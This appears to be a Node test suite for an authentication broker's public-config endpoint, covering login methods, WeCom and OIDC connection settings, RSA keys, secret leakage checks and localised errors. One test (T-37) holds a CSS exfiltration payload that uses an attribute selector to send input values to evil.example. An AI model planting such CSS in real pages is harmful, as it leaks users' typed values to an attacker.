/** The public configuration (authing-broker 1.4, 1.5). */
import assert from 'node:assert/strict';
import { createPublicKey } from 'node:crypto';
import { after, afterEach, before, test } from 'node:test';
import { seed, startWorld, type World } from 'latchkey/testing';
import { type Answer, configurationOf, getJson } from './steps.js';
import { createVisitor } from './visitor.js';

let world: World;
const visitor = createVisitor();
before(async () => {
  world = await startWorld({ portOffset: 20_000 });
});
afterEach(() => world.reset());
after(() => world.close());

const path = '/api/v2/applications/acme-app/public-config';

test('names the app, its methods in order, and its page as an allowed origin', async () => {
  const found = await configurationOf(world, visitor);

  assert.equal(found.id, 'acme-app');
  assert.equal(found.userPoolId, '65a000000000000000000001');
  assert.equal(found.requestHostname, 'login.acme.localhost:24200');
  assert.deepEqual(found.loginTabs.list, ['password', 'phone-code', 'wechatwork-corp-qrconnect']);
  assert.equal(found.loginTabs.default, 'password');
  assert.deepEqual(found.allowedOrigins, [
    'http://app.acme.localhost:24100',
    'http://app.localhost:24100',
    'http://login.acme.localhost:24200',
  ]);
  assert.equal(found.verifyCodeLength, 6);
  assert.deepEqual(found.agreements, []);
  assert.deepEqual(found.latchkey, { theme: {} });
});

test('names every connection with what a login screen needs of it', async () => {
  const found = await configurationOf(world, visitor);

  const qr = found.qrcodeTabsSettings['wechatwork-corp-qrconnect'][0];
  assert.deepEqual(qr.QRConfig, {
    corpId: 'ww0123456789abcdef',
    agentId: '1000002',
    redirectUrl:
      'http://broker.localhost:24200/connections/social/wecom-qr/65a000000000000000000001/callback',
    identifier: 'wecom-qr',
  });
  assert.deepEqual(found.qrCodeSortConfig.loginMethodsSort, [qr.id]);
  const social = found.socialConnections.map((one: Answer) => [
    one.provider,
    one.identifier,
    one.embedded,
  ]);
  assert.deepEqual(social, [
    ['wechatwork:corp:qrconnect', 'wecom-qr', true],
    ['wechat:pc', 'wechat-pc', false],
    ['wechatwork:service-provider:qrconnect', 'wecom-service', false],
    ['wechatwork:agency:qrconnect', 'wecom-agency', false],
  ]);
  const [oidc] = found.identityProviders;
  assert.equal(oidc.protocol, 'oidc');
  assert.equal(
    oidc.config.oidcConnectionLoginUrl,
    'http://login.acme.localhost:24200/connections/oidc/init?app_id=acme-app&identifier=corp',
  );
});

test('carries a real RSA key for passwords, another one in each pool', async () => {
  const found = await configurationOf(world, visitor);
  const beta = `${world.addresses.beta}/api/v2/applications/beta-app/public-config`;
  const other = (await getJson(visitor, beta)).data;

  const key = createPublicKey(found.publicKey);
  assert.equal(key.asymmetricKeyType, 'rsa');
  assert.match(found.publicKey, /^-----BEGIN PUBLIC KEY-----\n/);
  assert.notEqual(found.publicKey, other.publicKey);
});

test('never holds a secret', async () => {
  const answer = await visitor.ask(world.addresses.acme + path);
  const text = await answer.text();

  const secrets = [seed.wecom.secret, seed.wechat.secret, seed.idp.clientSecret];
  for (const secret of [...secrets, 'correct horse', 'PRIVATE KEY']) {
    assert.equal(text.includes(secret), false);
  }
});

test('an app that is not of this pool gets the envelope of 2011, in the language asked for', async () => {
  const other = `${world.addresses.acme}/api/v2/applications/beta-app/public-config`;
  const english = await getJson(visitor, other, { 'x-authing-lang': 'en-US' });
  const chinese = await getJson(visitor, other, { 'x-authing-lang': 'zh-CN' });
  const byBrowser = await getJson(visitor, other, { 'accept-language': 'zh-CN,zh;q=0.9' });

  assert.equal(english.code, 2011);
  assert.equal(english.message, 'This app does not exist.');
  assert.equal(chinese.message, '应用不存在。');
  assert.equal(byBrowser.message, '应用不存在。');
});

test('a required agreement appears when the fault asks for it', async () => {
  world.faults.agreements = true;
  const found = await configurationOf(world, visitor);

  assert.equal(found.agreementEnabled, true);
  assert.deepEqual(
    found.agreements.map((one: Answer) => [one.id, one.lang, one.required]),
    [
      [1683, 'en-US', true],
      [1683, 'zh-CN', true],
    ],
  );
});

test('T-37 a sheet of the operator’s is in the document as it was written', async () => {
  const usual = await configurationOf(world, visitor);
  world.faults.css = 'input[value^="a"] { background: url(https://evil.example/a) }';
  const found = await configurationOf(world, visitor);

  assert.equal(usual.css, '');
  assert.equal(found.css, world.faults.css);
});

test('a test may change the document, or send any text in its place', async () => {
  world.faults.rewriteConfiguration = (document) => ({ ...document, name: 'Changed' });
  assert.equal((await configurationOf(world, visitor)).name, 'Changed');

  world.faults.rewriteConfiguration = () => '{"code":200,"data":{';
  const answer = await visitor.ask(world.addresses.acme + path);
  assert.equal(await answer.text(), '{"code":200,"data":{');
});

test('the page configuration is there beside it', async () => {
  const address = `${world.addresses.acme}/api/v2/applications/acme-app/components-public-config/guard`;
  const found = await getJson(visitor, address);

  assert.deepEqual(found.data, {
    global: { showChangeLanguage: true, defaultLanguage: 'browser' },
  });
});
